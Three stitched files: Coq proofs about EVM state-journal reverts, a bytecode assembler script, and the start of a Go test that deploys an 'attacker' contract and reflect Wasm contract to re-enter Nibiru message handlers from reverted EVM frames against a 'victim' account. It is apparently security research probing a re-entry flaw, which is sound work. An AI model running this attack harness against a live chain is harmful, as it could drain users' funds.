Ltac lk := repeat first [ rewrite lookup_set_same | rewrite lookup_push | rewrite lookup_with_journal
                        | rewrite get_obj_lookup
                        | rewrite lookup_set_other by assumption
                        | rewrite lookup_del_other by assumption ].

Lemma op_ok_E s s' : E s' s -> op_ok s s'.
Proof.
  intros HE. pose proof HE as (J & _ & _). split; [rewrite J; lia|].
  rewrite <- J. rewrite unwind_id. exact HE.
Qed.

Lemma E_from_lookup s1 s2 :
  journal s1 = journal s2 -> kp s1 = kp s2 ->
  (forall a, ooeq (kp s1) a (lookup s1 a) (lookup s2 a)) -> E s1 s2.
Proof. intros; repeat split; assumption. Qed.

(* one new entry *)
Lemma op_ok_one s s1 e a o' :
  E s1 s ->
  E (undo e (with_journal (set_obj (push s1 e) a o') (journal s1))) s1 ->
  op_ok s (set_obj (push s1 e) a o').
Proof.
  intros HE Hu. pose proof HE as (J & _ & _).
  split; [jk; cbn [length]; rewrite J; lia|].
  rewrite (unwind_prefix [e] (journal s) (length (journal s))); [| jk; rewrite J; reflexivity | reflexivity].
  cbn [length unwind_k].
  rewrite (pop_undo_cons _ e (journal s1)) by (jk; reflexivity).
  eapply E_trans; [exact Hu | exact HE].
Qed.

(* lookup None: create the object; undoing ECreate gives back an E-equal state *)
Lemma E_del_created s a o :
  lookup s a = None -> E (del_obj (with_journal (set_obj (push s (ECreate a)) a o) (journal s)) a) s.
Proof.
  intros Hl. apply E_from_lookup; [jk; reflexivity | jk; reflexivity |].
  intros a'. destruct (Z.eq_dec a' a) as [->|Hne].
  - rewrite lookup_del_same. jk. rewrite (lookup_none_kaccs s a Hl), Hl. exact I.
  - lk. apply ooeq_refl.
Qed.

Lemma E_set_same s a o o' : lookup s a = Some o -> oeq (kp s) a o' o -> E (set_obj s a o') s.
Proof.
  intros Hl Ho. apply E_from_lookup; [jk; reflexivity | jk; reflexivity |].
  intros a'. jk. destruct (Z.eq_dec a' a) as [->|Hne]; lk; [rewrite Hl; exact Ho | apply ooeq_refl].
Qed.

(* the state after get_or_new, characterised *)
Lemma get_or_new_some s a o : lookup s a = Some o -> get_or_new s a = (o, snd (get_obj s a)).
Proof. intros Hl. unfold get_or_new. rewrite (get_obj_some s a o Hl). reflexivity. Qed.
Lemma get_or_new_none s a : lookup s a = None ->
  get_or_new s a = (new_obj 0 0, set_obj (push s (ECreate a)) a (new_obj 0 0)).
Proof. intros Hl. unfold get_or_new, create_object. rewrite !(get_obj_none s a Hl). reflexivity. Qed.

(* a generic lemma for "mutators": get_or_new then one journaled field update *)
Lemma mutator_ok s a (e : obj -> entry) (f : obj -> obj) :
  (forall s0 o, lookup s0 a = Some (f o) -> E (undo (e o) s0) (set_obj s0 a o)) ->
  op_ok s (let '(o, s1) := get_or_new s a in set_obj (push s1 (e o)) a (f o)).
Proof.
  intros Hundo.
  destruct (lookup s a) as [o|] eqn:Hl.
  - rewrite (get_or_new_some s a o Hl). set (s1 := snd (get_obj s a)).
    assert (HE1 : E s1 s) by apply E_cached.
    apply op_ok_one; [exact HE1|].
    eapply E_trans; [apply Hundo; lk; reflexivity|].
    apply E_from_lookup; [jk; reflexivity | jk; reflexivity|].
    intros a'. jk. destruct (Z.eq_dec a' a) as [->|Hne]; lk.
    + subst s1. lk. rewrite Hl. apply oeq_refl.
    + apply ooeq_refl.
  - rewrite (get_or_new_none s a Hl).
    split; [jk; cbn [length]; lia|].
    rewrite (unwind_prefix [e (new_obj 0 0); ECreate a] (journal s) (length (journal s))); [| jk; reflexivity | reflexivity].
    cbn [length unwind_k].
    match goal with |- E (pop_undo (pop_undo ?S0)) _ =>
      rewrite (pop_undo_cons S0 (e (new_obj 0 0)) (ECreate a :: journal s)) by (jk; reflexivity) end.
    set (sA := with_journal _ (ECreate a :: journal s)).
    assert (HA : E (undo (e (new_obj 0 0)) sA) (set_obj sA a (new_obj 0 0))).
    { apply Hundo. subst sA. lk. reflexivity. }
    pose proof HA as (JA & _ & _).
    assert (HjA : journal (undo (e (new_obj 0 0)) sA) = ECreate a :: journal s).
    { rewrite JA. subst sA. jk. reflexivity. }
    rewrite (pop_undo_cons _ (ECreate a) (journal s) HjA).
    eapply E_trans.
    { apply E_undo. apply E_with_journal. exact HA. }
    rewrite undo_create.
    apply E_from_lookup; [jk; reflexivity | subst sA; jk; reflexivity |].
    intros a'. destruct (Z.eq_dec a' a) as [->|Hne].
    + rewrite lookup_del_same. subst sA. jk. rewrite (lookup_none_kaccs s a Hl), Hl. exact I.
    + subst sA. lk. apply ooeq_refl.
Qed.
