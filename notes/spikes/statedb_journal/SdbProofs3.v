From Coq Require Import ZArith List Bool Lia.
Import ListNotations.
Require Import SdbModel SdbProofs SdbProofs2.
Open Scope Z_scope.

Ltac jk := repeat first [ rewrite journal_set_obj | rewrite journal_push | rewrite journal_with_journal
                        | rewrite journal_del | rewrite kp_set_obj | rewrite kp_push | rewrite kp_with_journal
                        | rewrite kp_del | rewrite get_obj_journal | rewrite get_obj_kp ].
Ltac lk := repeat first [ rewrite lookup_set_same | rewrite lookup_push | rewrite lookup_with_journal
                        | rewrite get_obj_lookup
                        | rewrite lookup_set_other by assumption
                        | rewrite lookup_del_other by assumption ].

Lemma E_set_set s a o o' : oeq (kp s) a o' o -> E (set_obj s a o') (set_obj s a o).
Proof. intros H. apply E_set_obj; [apply E_refl|exact H]. Qed.

Lemma get_or_new_ok s a : op_ok s (snd (get_or_new s a)).
Proof.
  destruct (lookup s a) as [o|] eqn:Hl.
  - rewrite (get_or_new_some s a o Hl). simpl. apply op_ok_E, E_cached.
  - rewrite (get_or_new_none s a Hl). simpl.
    apply op_ok_one; [apply E_refl|].
    rewrite undo_create. apply E_del_created. exact Hl.
Qed.

Lemma add_balance_ok s a amt : op_ok s (add_balance s a amt).
Proof.
  unfold add_balance. destruct (Z.eqb amt 0) eqn:Hz.
  - pose proof (get_or_new_ok s a) as H. destruct (get_or_new s a) as [o s1]. exact H.
  - pose proof (mutator_ok s a (fun o => EBalance a (bal o)) (fun o => with_bal o (bal o + amt))) as H.
    destruct (get_or_new s a) as [o s1]. apply H.
    intros s0 o0 Hl0. rewrite (undo_balance s0 a _ _ Hl0). apply E_set_set.
    repeat split; reflexivity.
Qed.

Lemma set_nonce_ok s a n : op_ok s (set_nonce s a n).
Proof.
  unfold set_nonce.
  pose proof (mutator_ok s a (fun o => ENonce a (nonce o)) (fun o => with_nonce o n)) as H.
  destruct (get_or_new s a) as [o s1]. apply H.
  intros s0 o0 Hl0. rewrite (undo_nonce s0 a _ _ Hl0). apply E_set_set.
  repeat split; reflexivity.
Qed.

Lemma suicide_ok s a : op_ok s (suicide s a).
Proof.
  unfold suicide. destruct (lookup s a) as [o|] eqn:Hl.
  - rewrite (get_obj_some s a o Hl). set (s1 := snd (get_obj s a)).
    assert (HE1 : E s1 s) by apply E_cached.
    apply op_ok_one; [exact HE1|].
    rewrite (undo_suicide _ a _ _ (with_bal (with_suicided o true) 0)) by (lk; reflexivity).
    apply E_from_lookup; [jk; reflexivity | jk; reflexivity|].
    intros a'. jk. destruct (Z.eq_dec a' a) as [->|Hne]; lk.
    + subst s1. lk. rewrite Hl. simpl. repeat split; reflexivity.
    + apply ooeq_refl.
  - rewrite (get_obj_none s a Hl). apply op_ok_E, E_refl.
Qed.

Lemma create_account_ok s a : op_ok s (create_account s a).
Proof.
  unfold create_account, create_object.
  destruct (lookup s a) as [p|] eqn:Hl.
  - rewrite (get_obj_some s a p Hl). set (s1 := snd (get_obj s a)).
    assert (HE1 : E s1 s) by apply E_cached.
    (* state: set_obj (set_obj (push s1 (EReset a p)) a new) a (with_bal new (bal p)) *)
    split; [jk; cbn [length]; destruct HE1 as (J&_&_); rewrite J; lia|].
    destruct HE1 as (J&K&O).
    rewrite (unwind_prefix [EReset a p] (journal s) (length (journal s))); [| jk; rewrite J; reflexivity | reflexivity].
    cbn [length unwind_k].
    rewrite (pop_undo_cons _ (EReset a p) (journal s1)) by (jk; reflexivity).
    rewrite undo_reset.
    apply E_from_lookup; [jk; exact J | jk; exact K|].
    intros a'. jk. destruct (Z.eq_dec a' a) as [->|Hne]; lk.
    + subst s1. rewrite Hl. apply oeq_refl.
    + subst s1. lk. apply ooeq_refl.
  - rewrite (get_obj_none s a Hl).
    apply op_ok_one; [apply E_refl|].
    rewrite undo_create. apply E_del_created. exact Hl.
Qed.

Lemma oeq_with_origin kp0 a o k :
  origin o k = None -> oeq kp0 a (with_origin o k (kstore kp0 a k)) o.
Proof.
  intros Ho. repeat split; try reflexivity.
  intros k'. unfold st, comm. simpl. unfold upd.
  destruct (dirty o k'); [reflexivity|].
  destruct (Z.eqb_spec k' k) as [->|Hne]; [rewrite Ho|]; reflexivity.
Qed.

Lemma op_ok_trans s s1 s2 : op_ok s s1 -> op_ok s1 s2 -> op_ok s s2.
Proof.
  intros (L1 & E1) (L2 & E2). split; [lia|].
  rewrite (unwind_compose (length (journal s)) (length (journal s1)) s2 L1 L2).
  eapply E_trans; [|exact E1]. apply E_unwind. exact E2.
Qed.

Lemma obj_state_st s a o k : obj_state s a o k = st (kp s) a o k.
Proof. reflexivity. Qed.

Lemma set_state_ok_some s a k v o : lookup s a = Some o -> op_ok s (set_state s a k v).
Proof.
  intros Hl. unfold set_state.
  rewrite (get_or_new_some s a o Hl). set (s1 := snd (get_obj s a)).
  assert (HE1 : E s1 s) by apply E_cached.
  assert (Hl1 : lookup s1 a = Some o) by (subst s1; lk; exact Hl).
  set (o1 := match dirty o k with Some _ => o | None => match origin o k with Some _ => o | None => with_origin o k (kstore (kp s1) a k) end end).
  assert (Ho1 : oeq (kp s1) a o1 o).
  { subst o1. destruct (dirty o k); [apply oeq_refl|]. destruct (origin o k) eqn:Hor; [apply oeq_refl|].
    apply oeq_with_origin. exact Hor. }
  destruct (Z.eqb (obj_state s1 a o k) v).
  - apply op_ok_E. eapply E_trans; [|exact HE1]. apply (E_set_same s1 a o o1 Hl1 Ho1).
  - apply op_ok_one; [exact HE1|].
    rewrite (undo_storage _ a k _ (with_dirty o1 k v)) by (lk; reflexivity).
    apply E_from_lookup; [jk; reflexivity | jk; reflexivity|].
    intros a'. jk. destruct (Z.eq_dec a' a) as [->|Hne]; lk; [|apply ooeq_refl].
    rewrite Hl1. destruct Ho1 as (A1&A2&A3&A4).
    repeat split; simpl; auto.
    intros k'. rewrite obj_state_st. specialize (A4 k'). unfold st, comm in *. simpl. unfold upd.
    destruct (Z.eqb_spec k' k) as [->|Hne']; [reflexivity|exact A4].
Qed.

Lemma get_or_new_lookup s a : lookup (snd (get_or_new s a)) a = Some (fst (get_or_new s a)).
Proof.
  destruct (lookup s a) as [o|] eqn:Hl.
  - rewrite (get_or_new_some s a o Hl). simpl. lk. exact Hl.
  - rewrite (get_or_new_none s a Hl). simpl. lk. reflexivity.
Qed.

Lemma objs_set_obj s a o : objs (set_obj s a o) a = Some o.
Proof. Transparent set_obj. unfold set_obj. simpl. apply upd_same. Qed.
Global Opaque set_obj.

Lemma objs_get_obj_some s a o : lookup s a = Some o -> objs (snd (get_obj s a)) a = Some o.
Proof.
  rewrite lookup_def. unfold get_obj.
  destruct (objs s a) eqn:Ho; [intros H; simpl; congruence|].
  destruct (kaccs (kp s) a); [|discriminate].
  intros H. simpl. rewrite upd_same. exact H.
Qed.

Lemma objs_get_or_new s a : objs (snd (get_or_new s a)) a = Some (fst (get_or_new s a)).
Proof.
  destruct (lookup s a) as [o|] eqn:Hl.
  - rewrite (get_or_new_some s a o Hl). simpl. apply objs_get_obj_some. exact Hl.
  - rewrite (get_or_new_none s a Hl). simpl. apply objs_set_obj.
Qed.

Lemma get_or_new_live s a o : objs s a = Some o -> get_or_new s a = (o, s).
Proof. intros H. unfold get_or_new, get_obj. rewrite H. reflexivity. Qed.

Lemma set_state_idem s a k v : set_state s a k v = set_state (snd (get_or_new s a)) a k v.
Proof.
  unfold set_state at 2.
  rewrite (get_or_new_live _ a _ (objs_get_or_new s a)).
  unfold set_state. destruct (get_or_new s a) as [o s1]. reflexivity.
Qed.

Lemma set_state_ok s a k v : op_ok s (set_state s a k v).
Proof.
  rewrite set_state_idem.
  eapply op_ok_trans; [apply get_or_new_ok|].
  eapply set_state_ok_some. apply get_or_new_lookup.
Qed.

Lemma run_op_ok o s : op_ok s (run_op o s).
Proof.
  destruct o; simpl.
  - apply add_balance_ok.
  - apply set_nonce_ok.
  - apply set_state_ok.
  - apply suicide_ok.
  - apply create_account_ok.
Qed.

(* ---- main theorem: a reverted frame is invisible ---- *)

Fixpoint psize (p : prog) : nat :=
  match p with
  | POp _ => 1%nat
  | PFrame body _ => S (list_sum (map psize body))
  end.

Definition run_body (body : list prog) (s : sdb) : sdb :=
  (fix go (l : list prog) (s : sdb) : sdb := match l with [] => s | p :: t => go t (run p s) end) body s.

Lemma run_frame body rv s :
  run (PFrame body rv) s = if rv then unwind (length (journal s)) (run_body body s) else run_body body s.
Proof. reflexivity. Qed.

Lemma run_body_cons p t s : run_body (p :: t) s = run_body t (run p s).
Proof. reflexivity. Qed.

Lemma op_ok_refl s : op_ok s s.
Proof. apply op_ok_E, E_refl. Qed.

Lemma run_ok_aux n : forall p s, (psize p <= n)%nat -> op_ok s (run p s).
Proof.
  induction n as [|n IH]; intros p s Hn.
  - destruct p; simpl in Hn; lia.
  - destruct p as [o|body rv].
    + apply run_op_ok.
    + assert (Hbody : forall l s0, (list_sum (map psize l) <= n)%nat -> op_ok s0 (run_body l s0)).
      { induction l as [|x t IHl]; intros s0 Hl.
        - apply op_ok_refl.
        - rewrite run_body_cons. simpl in Hl.
          apply (op_ok_trans s0 (run x s0)); [apply (IH x); lia | apply IHl; lia]. }
      cbn [psize] in Hn. rewrite run_frame.
      assert (Hb : op_ok s (run_body body s)) by (apply Hbody; lia).
      destruct rv; [|exact Hb].
      destruct Hb as (L & HE).
      apply op_ok_E. exact HE.
Qed.

Theorem run_ok p s : op_ok s (run p s).
Proof. apply (run_ok_aux (psize p)). lia. Qed.

(* A reverted frame leaves every observable exactly as before. *)
Theorem reverted_frame_invisible body s : E (run (PFrame body true) s) s.
Proof.
  pose proof (run_ok (PFrame body true) s) as (L & HE).
  rewrite run_frame in *.
  assert (Hlen : length (journal (unwind (length (journal s)) (run_body body s))) = length (journal s)).
  { apply unwind_len. pose proof (run_ok (PFrame body false) s) as (L2 & _). rewrite run_frame in L2. exact L2. }
  rewrite <- Hlen in HE at 1. rewrite unwind_id in HE. exact HE.
Qed.

Print Assumptions reverted_frame_invisible.
