from asm2 import asm
# calldata = mode(1) || payload (complete calldata for the Wasm precompile 0x…0802)
#   mode 0: body, STOP        mode 1: body, REVERT
#   mode 2: self-call with mode 1 (result ignored), SSTORE(2,9), STOP
# body:  SSTORE(0,0x2a); send 5 unibi to 0x…B0B; CALL 0x802(payload) (REVERT if it fails);
#        send 1 unibi to 0x…D0D; SSTORE(1,7)
src = """
  PUSH1 0 CALLDATALOAD PUSH1 0xf8 SHR
  DUP1 PUSH1 2 EQ PUSH2 @outer JUMPI
  PUSH1 0x2a PUSH1 0 SSTORE
  PUSH1 0 PUSH1 0 PUSH1 0 PUSH1 0 PUSH6 0x048c27395000 PUSH2 0x0b0b GAS CALL POP
  PUSH1 1 CALLDATASIZE SUB
  DUP1 PUSH1 1 PUSH1 0 CALLDATACOPY
  PUSH1 0 PUSH1 0 DUP3 PUSH1 0 PUSH1 0 PUSH2 0x0802 GAS CALL
  ISZERO PUSH2 @revert JUMPI
  POP
  PUSH1 0 PUSH1 0 PUSH1 0 PUSH1 0 PUSH5 0xe8d4a51000 PUSH2 0x0d0d GAS CALL POP
  PUSH1 7 PUSH1 1 SSTORE
  PUSH1 1 EQ PUSH2 @revert JUMPI
  STOP
revert: JUMPDEST PUSH1 0 PUSH1 0 REVERT
outer: JUMPDEST
  CALLDATASIZE PUSH1 0 PUSH1 0 CALLDATACOPY
  PUSH1 1 PUSH1 0 MSTORE8
  PUSH1 0 PUSH1 0 CALLDATASIZE PUSH1 0 PUSH1 0 ADDRESS GAS CALL
  POP
  PUSH1 9 PUSH1 2 SSTORE
  STOP
"""
rt = asm(src)
init = bytes([0x61, len(rt)>>8, len(rt)&255, 0x60, 0x0e, 0x60, 0x00, 0x39, 0x61, len(rt)>>8, len(rt)&255, 0x60, 0x00, 0xf3])
print(len(rt)); print((init+rt).hex())
