package reentry_test

// Re-entry of x/evm Cosmos message handlers from INSIDE a delivered EVM transaction.
//
//	T (signed MsgEthereumTx, full DeliverTx)
//	  EOA -> contract C (hand-assembled, listing below)
//	    C: SSTORE(0,0x2a); send 5 unibi to 0x..0b0b
//	    C: CALL Wasm precompile 0x..0802 execute(W, reflect_msg{[stargate M]})
//	         W = reflect.wasm (owner C) re-dispatches M with signer W
//	         M = MsgConvertCoinToEvm{sender: W, ...} | MsgCreateFunToken{sender: W} | authz MsgExec{grantee: W,[..]}
//	    C: send 1 unibi to 0x..0d0d; SSTORE(1,7)
//	  frame modes: 0 plain, 1 top-level REVERT, 2 self-call that REVERTs, result swallowed, SSTORE(2,9), tx succeeds
//
// The file is self-contained (package reentry_test): it runs from its own module or from any directory of the
// nibiru repository (reflect.wasm is looked up through REPO, default /repo).

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/big"
	"math/rand"
	"os"
	"strings"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	wasmtypes "github.com/CosmWasm/wasmd/x/wasm/types"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/client"
	codectypes "github.com/cosmos/cosmos-sdk/codec/types"
	"github.com/cosmos/cosmos-sdk/crypto/keys/secp256k1"
	cryptotypes "github.com/cosmos/cosmos-sdk/crypto/types"
	"github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtx "github.com/cosmos/cosmos-sdk/x/auth/tx"
	"github.com/cosmos/cosmos-sdk/x/authz"
	bank "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/cosmos/gogoproto/proto"
	gethcommon "github.com/ethereum/go-ethereum/common"
	gethcore "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/NibiruChain/nibiru/v2/app"
	"github.com/NibiruChain/nibiru/v2/app/appconst"
	"github.com/NibiruChain/nibiru/v2/eth"
	"github.com/NibiruChain/nibiru/v2/x/common/testutil/testapp"
	"github.com/NibiruChain/nibiru/v2/x/evm"
	"github.com/NibiruChain/nibiru/v2/x/evm/embeds"
	"github.com/NibiruChain/nibiru/v2/x/evm/evmtest"
	"github.com/NibiruChain/nibiru/v2/x/evm/precompile"
	"github.com/NibiruChain/nibiru/v2/x/evm/statedb"
)

// ---------------------------------------------------------------- contract C
//
// calldata = mode(1) || complete calldata for the Wasm precompile
//
//	  PUSH1 0 CALLDATALOAD PUSH1 0xf8 SHR
//	  DUP1 PUSH1 2 EQ PUSH2 @outer JUMPI
//	  PUSH1 0x2a PUSH1 0 SSTORE
//	  PUSH1 0 PUSH1 0 PUSH1 0 PUSH1 0 PUSH6 0x048c27395000 PUSH2 0x0b0b GAS CALL POP      ; 5 unibi -> 0x0b0b
//	  PUSH1 1 CALLDATASIZE SUB  DUP1 PUSH1 1 PUSH1 0 CALLDATACOPY
//	  PUSH1 0 PUSH1 0 DUP3 PUSH1 0 PUSH1 0 PUSH2 0x0802 GAS CALL  ISZERO PUSH2 @revert JUMPI  POP
//	  PUSH1 0 PUSH1 0 PUSH1 0 PUSH1 0 PUSH5 0xe8d4a51000 PUSH2 0x0d0d GAS CALL POP        ; 1 unibi -> 0x0d0d
//	  PUSH1 7 PUSH1 1 SSTORE
//	  PUSH1 1 EQ PUSH2 @revert JUMPI  STOP
//	revert: JUMPDEST PUSH1 0 PUSH1 0 REVERT
//	outer: JUMPDEST
//	  CALLDATASIZE PUSH1 0 PUSH1 0 CALLDATACOPY  PUSH1 1 PUSH1 0 MSTORE8
//	  PUSH1 0 PUSH1 0 CALLDATASIZE PUSH1 0 PUSH1 0 ADDRESS GAS CALL POP
//	  PUSH1 9 PUSH1 2 SSTORE STOP
var contractInit = mustHex("61008c600e60003961008c6000f3" +
	"60003560f81c8060021461006d57602a600055600060006000600065048c27395000610b0b5af150600136038060016000376000600082600060006108025af1" +
	"156100675750600060006000600064e8d4a51000610d0d5af150600760015560011461006757005b60006000fd5b3660006000376001600053600060003660006000305af150600960025500")

func mustHex(s string) []byte {
	b, err := hex.DecodeString(s)
	if err != nil {
		panic(err)
	}
	return b
}

// ---------------------------------------------------------------- chain plumbing

type chain struct {
	App     *app.NibiruApp
	TxCfg   client.TxConfig
	Header  tmproto.Header
	Time    time.Time
	ChainID *big.Int
}

func newChain() *chain {
	napp, _ := testapp.NewNibiruTestApp(app.GenesisState{})
	napp.Commit()
	return &chain{App: napp, TxCfg: app.MakeEncodingConfig().TxConfig, Time: time.Unix(1_700_000_000, 0).UTC()}
}

func (c *chain) BeginBlock() {
	c.Time = c.Time.Add(5 * time.Second)
	c.Header = tmproto.Header{Height: c.App.LastBlockHeight() + 1, Time: c.Time}
	c.App.BeginBlock(abci.RequestBeginBlock{Header: c.Header})
	if c.ChainID == nil {
		c.ChainID = appconst.GetEthChainID(c.Ctx().ChainID())
	}
}
func (c *chain) Ctx() sdk.Context { return c.App.NewContext(false, c.Header) }
func (c *chain) EndBlock() {
	c.App.EndBlock(abci.RequestEndBlock{Height: c.Header.Height})
	c.App.Commit()
}
func (c *chain) Fund(a sdk.AccAddress, denom string, n int64) {
	if err := testapp.FundAccount(c.App.BankKeeper, c.Ctx(), a, sdk.NewCoins(sdk.NewInt64Coin(denom, n))); err != nil {
		panic(err)
	}
}

func (c *chain) SignEth(acc evmtest.EthPrivKeyAcc, args *evm.EvmTxArgs) *evm.MsgEthereumTx {
	args.ChainID = c.ChainID
	tx := evm.NewTx(args)
	tx.From = acc.EthAddr.Hex()
	if err := tx.Sign(gethcore.LatestSignerForChainID(args.ChainID), acc.KeyringSigner); err != nil {
		panic(err)
	}
	return tx
}

func (c *chain) DeliverEth(m *evm.MsgEthereumTx) abci.ResponseDeliverTx {
	b := c.TxCfg.NewTxBuilder().(authtx.ExtensionOptionsTxBuilder)
	opt, _ := codectypes.NewAnyWithValue(&evm.ExtensionOptionsEthereumTx{})
	b.SetExtensionOptions(opt)
	m.From = ""
	if err := b.SetMsgs(m); err != nil {
		panic(err)
	}
	b.SetFeeAmount(sdk.NewCoins(sdk.NewCoin("unibi", sdkmath.NewIntFromBigInt(evm.WeiToNative(m.GetFee())))))
	b.SetGasLimit(m.GetGas())
	bz, err := c.TxCfg.TxEncoder()(b.GetTx())
	if err != nil {
		panic(err)
	}
	return c.App.DeliverTx(abci.RequestDeliverTx{Tx: bz})
}

func (c *chain) DeliverCosmos(priv cryptotypes.PrivKey, msgs ...sdk.Msg) abci.ResponseDeliverTx {
	ctx := c.Ctx()
	acc := c.App.AccountKeeper.GetAccount(ctx, sdk.AccAddress(priv.PubKey().Address()))
	tx, err := sims.GenSignedMockTx(rand.New(rand.NewSource(1)), c.TxCfg, msgs, sdk.NewCoins(sdk.NewInt64Coin("unibi", 1_000_000)), 8_000_000,
		ctx.ChainID(), []uint64{acc.GetAccountNumber()}, []uint64{acc.GetSequence()}, priv)
	if err != nil {
		panic(err)
	}
	bz, _ := c.TxCfg.TxEncoder()(tx)
	return c.App.DeliverTx(abci.RequestDeliverTx{Tx: bz})
}

func vmError(r abci.ResponseDeliverTx) string {
	for _, ev := range r.Events {
		if ev.Type != "eth.evm.v1.EventEthereumTx" {
			continue
		}
		for _, a := range ev.Attributes {
			if a.Key == "vm_error" {
				if v := strings.Trim(a.Value, `"`); v != "" {
					return v
				}
			}
		}
	}
	return ""
}

// ---------------------------------------------------------------- world

var gasPrice = big.NewInt(1_000_000_000_000) // 1 unibi per gas

var (
	addrB = gethcommon.HexToAddress("0x0000000000000000000000000000000000000b0b")
	addrD = gethcommon.HexToAddress("0x0000000000000000000000000000000000000d0d")
	addrR = gethcommon.HexToAddress("0x00000000000000000000000000000000000A11ce") // receives the ERC20 of the nested convert
)

type world struct {
	t       *testing.T
	c       *chain
	eoa     evmtest.EthPrivKeyAcc // attacker, signs T
	victim  cryptotypes.PrivKey   // honest user with escrowed funds
	C       gethcommon.Address    // the EVM contract
	W       sdk.AccAddress        // the reflect contract, owner = C
	erc     map[string]gethcommon.Address
	nextErc gethcommon.Address // where the EVM module would deploy its next ERC20
}

const ucoin = "ucoin"
const ucoin2 = "ucoin2" // has bank metadata but no FunToken mapping

func newWorld(t *testing.T) *world { return newWorldOwner(t, false) }

// newWorldOwner: eoaOwns makes the attacker EOA (instead of C) the owner of W, for direct EOA -> 0x802 calls.
func newWorldOwner(t *testing.T, eoaOwns bool) *world {
	w := &world{t: t, c: newChain(), erc: map[string]gethcommon.Address{}}
	c := w.c
	c.BeginBlock()
	w.eoa = evmtest.NewEthPrivAcc()
	w.victim = secp256k1.GenPrivKey()
	vAddr := sdk.AccAddress(w.victim.PubKey().Address())
	c.Fund(w.eoa.NibiruAddr, "unibi", 1e15)
	c.Fund(vAddr, "unibi", 1e15)
	c.Fund(vAddr, ucoin, 1e6)
	c.App.BankKeeper.SetDenomMetaData(c.Ctx(), bank.Metadata{
		DenomUnits: []*bank.DenomUnit{{Denom: "unibi", Exponent: 0}, {Denom: "NIBI", Exponent: 6}}, Base: "unibi", Display: "NIBI", Name: "NIBI", Symbol: "NIBI"})
	c.App.BankKeeper.SetDenomMetaData(c.Ctx(), bank.Metadata{
		DenomUnits: []*bank.DenomUnit{{Denom: ucoin, Exponent: 0}}, Base: ucoin, Display: ucoin, Name: ucoin, Symbol: "UCOIN"})

	// the honest user creates both coin-born FunTokens and escrows 1000 of each
	for _, d := range []string{"unibi", ucoin} {
		if r := c.DeliverCosmos(w.victim, &evm.MsgCreateFunToken{FromBankDenom: d, Sender: vAddr.String()}); r.Code != 0 {
			t.Fatalf("create funtoken %s: %s", d, r.Log)
		}
		fts := c.App.EvmKeeper.FunTokens.Collect(c.Ctx(), c.App.EvmKeeper.FunTokens.Indexes.BankDenom.ExactMatch(c.Ctx(), d))
		w.erc[d] = fts[0].Erc20Addr.Address
		if r := c.DeliverCosmos(w.victim, &evm.MsgConvertCoinToEvm{Sender: vAddr.String(), BankCoin: sdk.NewInt64Coin(d, 1000),
			ToEthAddr: eth.EIP55Addr{Address: eth.NibiruAddrToEthAddr(vAddr)}}); r.Code != 0 {
			t.Fatalf("victim convert %s: %s", d, r.Log)
		}
	}

	// attacker: contract C, reflect contract W owned by C
	if r := c.DeliverEth(c.SignEth(w.eoa, &evm.EvmTxArgs{Nonce: 0, GasLimit: 500_000, GasPrice: gasPrice, Input: contractInit})); r.Code != 0 || vmError(r) != "" {
		t.Fatalf("deploy C: %s %s", r.Log, vmError(r))
	}
	w.C = crypto.CreateAddress(w.eoa.EthAddr, 0)
	repo := os.Getenv("REPO")
	if repo == "" {
		repo = "/repo"
	}
	code, err := os.ReadFile(repo + "/x/devgas/v1/keeper/testdata/reflect.wasm")
	if err != nil {
		t.Fatal(err)
	}
	ctx := c.Ctx()
	cOwner := eth.EthAddrToNibiruAddr(w.C)
	if eoaOwns {
		cOwner = w.eoa.NibiruAddr
	}
	store := &wasmtypes.MsgStoreCode{Sender: w.eoa.NibiruAddr.String(), WASMByteCode: code}
	rsp, err := c.App.MsgServiceRouter().Handler(store)(ctx, store)
	if err != nil {
		t.Fatal(err)
	}
	var sr wasmtypes.MsgStoreCodeResponse
	_ = proto.Unmarshal(rsp.Data, &sr)
	inst := &wasmtypes.MsgInstantiateContract{Sender: cOwner.String(), CodeID: sr.CodeID, Label: "reflect", Msg: []byte(`{}`)}
	rsp, err = c.App.MsgServiceRouter().Handler(inst)(ctx, inst)
	if err != nil {
		t.Fatal(err)
	}
	var ir wasmtypes.MsgInstantiateContractResponse
	_ = proto.Unmarshal(rsp.Data, &ir)
	w.W = sdk.MustAccAddressFromBech32(ir.Address)
	c.Fund(eth.EthAddrToNibiruAddr(w.C), "unibi", 100)
	c.Fund(w.W, "unibi", 500)
	c.Fund(w.W, ucoin, 500)
	c.Fund(w.W, "unibi", 20_000_000_000) // enough for the 10_000 NIBI CreateFunToken fee
	c.App.BankKeeper.SetDenomMetaData(c.Ctx(), bank.Metadata{
		DenomUnits: []*bank.DenomUnit{{Denom: ucoin2, Exponent: 0}}, Base: ucoin2, Display: ucoin2, Name: ucoin2, Symbol: "UCOIN2"})
	w.nextErc = crypto.CreateAddress(evm.EVM_MODULE_ADDRESS, c.App.EvmKeeper.GetAccNonce(c.Ctx(), evm.EVM_MODULE_ADDRESS))
	c.EndBlock()
	c.BeginBlock()
	return w
}

type obs struct {
	Bank    map[string]string // "<who>/<denom>" -> amount
	Supply  map[string]string
	Erc     map[string]string // "<denom>/<who>" and "<denom>/totalSupply"
	Slots   [3]string
	Pointer bool // Keeper.Bank.StateDB != nil after the tx
}

func (w *world) queryEnv() (sdk.Context, *vm.EVM) {
	ctx, _ := w.c.Ctx().CacheContext()
	ctx = ctx.WithGasMeter(sdk.NewInfiniteGasMeter())
	k := w.c.App.EvmKeeper
	sdb := statedb.New(ctx, k, statedb.NewEmptyTxConfig(gethcommon.BytesToHash(ctx.HeaderHash())))
	return ctx, k.NewEVM(ctx, evmtest.MOCK_GETH_MESSAGE, k.GetEVMConfig(ctx), evm.NewNoOpTracer(), sdb)
}

func (w *world) observe() obs {
	ctx, evmObj := w.queryEnv()
	k := w.c.App.EvmKeeper
	bk := w.c.App.BankKeeper
	o := obs{Bank: map[string]string{}, Supply: map[string]string{}, Erc: map[string]string{}}
	who := map[string]sdk.AccAddress{
